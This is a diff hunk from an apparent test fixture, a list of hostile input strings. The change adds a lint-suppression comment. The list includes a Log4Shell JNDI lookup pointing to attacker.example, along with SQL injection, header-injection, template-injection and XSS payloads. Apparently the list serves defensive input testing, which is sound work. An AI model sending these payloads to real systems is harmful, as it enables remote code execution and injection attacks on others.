@@ -54,6 +54,7 @@ export const HOSTILE_STRINGS = [
   'x\r\nX-Injected: 1',
   '"}]}',
   "' OR 1=1 --",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection payload, not a template
   '${jndi:ldap://attacker.example/a}',
   '{{7*7}}',
   '<script>alert(1)</script>',
